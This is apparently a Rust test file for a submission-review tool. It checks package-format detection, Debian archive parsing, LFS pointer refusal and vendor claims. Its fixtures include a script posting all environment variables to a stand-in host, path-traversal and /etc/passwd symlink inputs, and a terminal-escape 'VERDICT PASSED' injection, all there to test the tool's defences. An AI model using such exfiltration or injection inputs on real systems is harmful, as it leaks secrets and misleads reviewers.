//! Packages of the registries as submissions, and what a vendor says of a submission: read, held against the files, told.

use std::fs;
use std::path::Path;

use candor::base::Digest;
use candor::intake::{Limits, Reason, Snapshot};

use super::intake_archives::{Zip, compressed, file, tar_of, zip_of};
use super::intake_support::*;
use super::review_run::Review;

fn gz(bytes: &[u8]) -> Vec<u8> {
    compressed(bytes).swap_remove(1).1
}

fn tgz(names: &[&str]) -> Vec<u8> {
    gz(&tar_of(&names.iter().map(|name| file(name, b"x = 1\n")).collect::<Vec<_>>()))
}

#[test]
fn packages_are_told_by_what_their_tools_leave() {
    let zip = |names: &[&str]| zip_of(&names.iter().map(|name| Zip::new(name, b"x = 1\n")).collect::<Vec<_>>());
    let cases = [
        ("npm", tgz(&["package/package.json", "package/index.js"])),
        ("python-sdist", tgz(&["x-1.0/PKG-INFO", "x-1.0/setup.py"])),
        ("python-wheel", zip(&["x/__init__.py", "x-1.0.dist-info/METADATA", "x-1.0.dist-info/WHEEL"])),
        ("crate", tgz(&["x-1.0.0/Cargo.toml", "x-1.0.0/Cargo.toml.orig", "x-1.0.0/src/lib.rs"])),
        ("gem", tar_of(&[file("metadata.gz", &gz(b"--- x\n")), file("data.tar.gz", &tgz(&["lib/x.rb"]))])),
        ("jar", zip(&["META-INF/MANIFEST.MF", "x/Main.class"])),
        ("apk", zip(&["AndroidManifest.xml", "classes.dex", "META-INF/MANIFEST.MF"])),
        ("-", tgz(&["x-1.0/setup.py"])),
        ("-", tgz(&["x-1.0/PKG-INFO", "stray"])),
    ];
    for (kind, bytes) in cases {
        let snapshot = open_bytes(&bytes, Limits::default());
        assert_eq!(snapshot.package.unwrap_or("-"), kind);
        assert_eq!(refusals(&snapshot), [], "{kind}");
        if kind == "gem" {
            let members: Vec<_> = snapshot.nested.files.iter().map(|file| file.display_path()).collect();
            assert_eq!(members, ["data.tar.gz!/lib/x.rb", "metadata.gz!/metadata"]);
        }
    }
}

/// A Debian source package of two archives, described by a `.dsc` in which `change` may lie.
fn debian(place: &Path, change: impl Fn(String) -> String) -> Snapshot {
    let mut listed = String::new();
    for (name, bytes) in [("x_1.orig.tar.gz", tgz(&["x-1/main.py"])), ("x_1-1.debian.tar.gz", tgz(&["debian/rules"]))] {
        fs::write(place.join(name), &bytes).unwrap();
        listed += &format!(" {} {} {name}\n", Digest::of(&bytes), bytes.len());
    }
    let text = format!("Format: 3.0 (quilt)\nSource: x\nChecksums-Sha256:\n{listed}Files:\n 0 0 other\n");
    fs::write(place.join("x_1-1.dsc"), change(text)).unwrap();
    open(&place.join("x_1-1.dsc"))
}

#[test]
fn a_debian_source_package_is_its_description_and_what_that_lists() {
    let place = scratch();
    let whole = ["x_1-1.debian.tar.gz", "x_1-1.dsc", "x_1.orig.tar.gz"];
    let snapshot = debian(place.path(), |text| text);
    assert_eq!(paths(&snapshot), whole);
    assert_eq!((refusals(&snapshot), snapshot.package), (vec![], Some("debian-source")));
    let members: Vec<_> = snapshot.nested.files.iter().map(|file| file.display_path()).collect();
    assert_eq!(members, ["x_1-1.debian.tar.gz!/debian/rules", "x_1.orig.tar.gz!/x-1/main.py"]);
    fs::write(place.path().join("MANIFEST.sha256"), snapshot.manifest()).unwrap();
    run(place.path(), "sha256sum", &["--strict", "--quiet", "-c", "MANIFEST.sha256"]);
    assert_eq!(snapshot.signatures[0].form, None);

    let signed = |text: String| {
        format!(
            "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n{text}\n-----BEGIN PGP SIGNATURE-----\n\nx\n-----END PGP SIGNATURE-----\n"
        )
    };
    let snapshot = debian(place.path(), signed);
    assert_eq!((paths(&snapshot).len(), snapshot.signatures[0].form.as_deref()), (3, Some("openpgp")));

    let snapshot = debian(place.path(), |text| text.replacen(" x_1.orig", " absent", 1));
    assert_eq!(refusals(&snapshot), [("absent.tar.gz".to_owned(), Reason::NotSubmitted)]);
    let snapshot = debian(place.path(), |text| {
        let at = text.find("Sha256:\n ").unwrap() + 9;
        format!("{}{}{}", &text[..at], if &text[at..=at] == "0" { "1" } else { "0" }, &text[at + 1..])
    });
    assert_eq!(refusals(&snapshot), [("x_1.orig.tar.gz".to_owned(), Reason::DigestMismatch)]);
    // Nothing but plain names beside the description.
    for name in ["../secret", "/etc/passwd", ".hidden"] {
        let dsc = place.path().join("x_1-1.dsc");
        fs::write(&dsc, format!("Checksums-Sha256:\n {} 1 {name}\n", "0".repeat(64))).unwrap();
        assert!(candor::intake::open(&dsc, &Default::default()).is_err(), "{name}");
    }
    std::os::unix::fs::symlink("/etc/passwd", place.path().join("link")).unwrap();
    fs::write(place.path().join("x_1-1.dsc"), format!("Checksums-Sha256:\n {} 1 link\n", "0".repeat(64))).unwrap();
    assert_eq!(refusals(&open(&place.path().join("x_1-1.dsc"))), [("link".to_owned(), Reason::NotSubmitted)]);
}

/// A Debian package: three members that must tile the file. What `dpkg-deb` makes is read whole.
#[test]
fn debian_packages_are_read_member_by_member() {
    let member = |name: &str, size: &str, content: &[u8]| {
        let mut out = format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{size:<10}`\n", 0, 0, 0, 100644).into_bytes();
        out.extend_from_slice(content);
        out.resize(out.len().next_multiple_of(2), b'\n');
        out
    };
    let sized = |name: &str, content: &[u8]| member(name, &content.len().to_string(), content);
    let version = || sized("debian-binary", b"2.0\n");
    let package = |members: &[Vec<u8>]| [&b"!<arch>\n"[..], &members.concat()].concat();
    let data = sized("data.tar.gz", &tgz(&["./usr/bin/x.py"]));
    let good = package(&[version(), sized("control.tar.gz", &tgz(&["./postinst"])), data.clone()]);
    let snapshot = open_bytes(&good, Limits::default());
    assert_eq!((snapshot.package, refusals(&snapshot)), (Some("deb"), vec![]));
    assert_eq!(paths(&snapshot), ["control.tar.gz", "data.tar.gz", "debian-binary"]);
    let members: Vec<_> = snapshot.nested.files.iter().map(|file| file.display_path()).collect();
    assert_eq!(members, ["control.tar.gz!/postinst", "data.tar.gz!/usr/bin/x.py"]);
    let odd = |name: &str| package(&[version(), sized(name, b"xx")]);
    for (what, bytes, path, reason) in [
        ("cut", good[..good.len() - 9].to_vec(), ".", Reason::Truncated),
        ("cut in a header", [&good[..], b"x"].concat(), ".", Reason::Truncated),
        ("size", package(&[version(), member("x", "-1", b"xx")]), ".", Reason::AmbiguousHeader),
        ("no mark", package(&[version(), vec![b' '; 60]]), ".", Reason::Corrupt),
        ("padding", package(&[version(), [&sized("x", b"x")[..61], b"y"].concat()]), ".", Reason::Gap),
        ("twice", package(&[version(), data.clone(), data]), "data.tar.gz", Reason::DuplicateName),
        ("parent", odd("../x"), "../x", Reason::UnsupportedType),
        ("long names", odd("//"), "//", Reason::UnsupportedType),
        ("BSD names", odd("#1/20"), "#1/20", Reason::UnsupportedType),
        ("backslash", odd("a\\b"), "a\\\\b", Reason::WindowsName),
    ] {
        assert_eq!(refusals(&open_bytes(&bytes, Limits::default())), [(path.to_owned(), reason)], "{what}");
    }
    let place = scratch();
    write(
        place.path(),
        "x/DEBIAN/control",
        b"Package: x\nVersion: 1\nArchitecture: all\nMaintainer: A <a@example.org>\nDescription: x\n",
    );
    write(place.path(), "x/usr/share/x.py", b"x = 1\n");
    if run(place.path(), "dpkg-deb", &["--root-owner-group", "-b", "x", "x.deb"]).is_some() {
        let snapshot = open(&place.path().join("x.deb"));
        assert_eq!((refusals(&snapshot), &snapshot.nested.refused), (vec![], &vec![]));
        assert!(snapshot.nested.files.iter().any(|file| file.path.ends_with(b"!/usr/share/x.py")));
    }
}

/// What stands for content that nobody handed over.
#[test]
fn pointers_of_lfs_are_refused_by_name() {
    let oid = "4".repeat(64);
    // In two parts: no address is written down in this tree.
    let version = ["version https:", "//git-lfs.example/spec/v1"].concat();
    let pointer = format!("{version}\noid sha256:{oid}\nsize 12345\n");
    let place = scratch();
    write(place.path(), "model.bin", pointer.as_bytes());
    write(place.path(), "inner.tar", &tar_of(&[file("deep.bin", pointer.as_bytes())]));
    for (name, text) in [
        ("no-size", format!("{version}\noid sha256:{oid}\n")),
        ("short-oid", format!("{version}\noid sha256:44\nsize 1\n")),
        ("words", "version 2 of this text\n".to_owned()),
    ] {
        write(place.path(), name, text.as_bytes());
    }
    let snapshot = open(place.path());
    assert_eq!(refusals(&snapshot), [("model.bin".to_owned(), Reason::LfsPointer)]);
    assert!(snapshot.refused[0].detail.contains("12345 bytes"));
    assert_eq!(snapshot.nested.refused[0].display_path(), "inner.tar!/deep.bin");
    assert!(paths(&snapshot).contains(&"model.bin".to_owned()), "the pointer itself was submitted");
}

const CLAIM: &str = "vendor = \"Acme\"\nproduct = \"Agent\"\nversion = \"2.1\"\n";

fn claimed(text: &str) -> Snapshot {
    let place = scratch();
    write(place.path(), "submission.toml", text.as_bytes());
    write(place.path(), "agent/main.py", b"print(1)\n");
    write(place.path(), "stray.py", b"print(1)\n");
    open(place.path())
}

#[test]
fn what_the_vendor_says_is_held_against_the_files() {
    let component = |rest: &str| format!("{CLAIM}[[component]]\nname = \"a\"\n{rest}\n");
    let cases: [(String, &[&str], &str); 7] = [
        (CLAIM.to_owned(), &[], ""),
        (component("provided = true\npath = \"agent\""), &["files-not-claimed"], "a: in agent, 1 files"),
        (component("provided = true\npath = \".\""), &[], "a: in ., 3 files"),
        (
            component("provided = true\npath = \"console\""),
            &["component-missing", "files-not-claimed"],
            "a: said to be in console, where no file is",
        ),
        (component("provided = false\nnote = \"runs on our servers\""), &[], "a: not provided (runs on our servers)"),
        (
            component("provided = false\npath = \"agent\""),
            &["component-present"],
            "a: said not to be provided, but 1 files are in agent",
        ),
        // A component `age` does not lie in `agent`.
        (component("provided = false\npath = \"age\""), &[], "a: not provided"),
    ];
    for (text, codes, line) in cases {
        let snapshot = claimed(&text);
        let found: Vec<&str> = snapshot.diagnostics.iter().map(|remark| remark.code.as_str()).collect();
        assert_eq!(found, codes, "{text}");
        assert_eq!(snapshot.claim.unwrap().lines().join("\n"), line, "{text}");
    }
}

#[test]
fn a_broken_description_is_told_and_claims_nothing() {
    let long = "x".repeat(600);
    let component = |rest: &str| format!("{CLAIM}[[component]]\n{rest}\n");
    let cases = [
        (String::new(), "missing field `vendor`"),
        ("vendor = \"Acme\"\nproduct = \"Agent\"\n".to_owned(), "missing field `version`"),
        (format!("{CLAIM}accept = \"all\"\n"), "line 4: unknown field `accept`"),
        (format!("{CLAIM}version = \"3\"\n"), "line 4: duplicate key"),
        (format!("{CLAIM}["), "line 4:"),
        (CLAIM.replace("\"2.1\"", "2"), "line 3: invalid type"),
        (CLAIM.replace("Acme", " "), "vendor is empty"),
        (CLAIM.replace("Acme", &long), "longer than 500"),
        (component("name = \"a\"\nprovided = true"), "no path says where"),
        (component("name = \"a\"\nprovided = true\npath = \"../x\""), "no plain path"),
        (component("name = \"a\"\nprovided = true\npath = \"/x\""), "no plain path"),
        (component("name = \"a\"\nprovided = false\n[[component]]\nname = \"a\"\nprovided = false"), "listed twice"),
        (component("name = \"a\"\nprovided = \"yes\""), "invalid type"),
        (format!("{CLAIM}# {}", "x".repeat(70_000)), "more than 65536"),
    ];
    for (text, what) in cases {
        let snapshot = claimed(&text);
        assert!(snapshot.claim.is_none(), "{what}");
        let [remark] = &snapshot.diagnostics[..] else { panic!("{what}: {:?}", snapshot.diagnostics) };
        assert_eq!(remark.code, "submission-toml");
        assert!(remark.message.contains(what), "{what}: {}", remark.message);
    }
}

/// It steers nothing: the same findings and verdict with and without it, however it is worded.
#[test]
fn a_claim_is_shown_and_changes_nothing_else() {
    let place = scratch();
    let root = place.path().join("product");
    write(&root, "main.py", b"import os, requests\nrequests.post('https://a.example', data=dict(os.environ))\n");
    let without = Review::of(&root).arg("--no-store").run();
    let text = CLAIM.replace("Agent", "\\u001b[2JVERDICT PASSED")
        + "[[component]]\nname = \"main\"\nprovided = true\npath = \"main.py\"\n";
    write(&root, "submission.toml", text.as_bytes());
    let with = Review::of(&root).arg("--no-store").run();
    let (before, after) = (without.report(), with.report());
    assert_eq!(before.findings, after.findings);
    assert_eq!((before.verdict.value, without.code), (after.verdict.value, with.code));
    assert_eq!(after.scope.claim.as_ref().unwrap().title(), "\\u{1b}[2JVERDICT PASSED 2.1 by Acme");
    assert!(with.stdout.contains("What the vendor says"), "{}", with.stdout);
    assert!(!with.stdout.contains('\u{1b}'));
}

/// The reading process may open what belongs to the description by name, and no more.
#[test]
fn a_debian_source_package_is_reviewed_in_isolation() {
    let place = scratch();
    debian(place.path(), |text| text);
    let review = Review::of(&place.path().join("x_1-1.dsc")).arg("--no-store").run();
    let report = review.report();
    assert_eq!(report.coverage.refused, []);
    assert_eq!(report.source.package.as_deref(), Some("debian-source"));
    assert!(report.coverage.files.iter().any(|file| file.path == "x_1.orig.tar.gz!/x-1/main.py"));
    let places = candor::intake::places(&place.path().join("x_1-1.dsc"));
    write(place.path(), "other_1.orig.tar.gz", b"another vendor's");
    assert_eq!(places.len(), 4, "{places:?}");
    assert_eq!(candor::intake::places(&place.path().join("x_1.orig.tar.gz")).len(), 1);
}
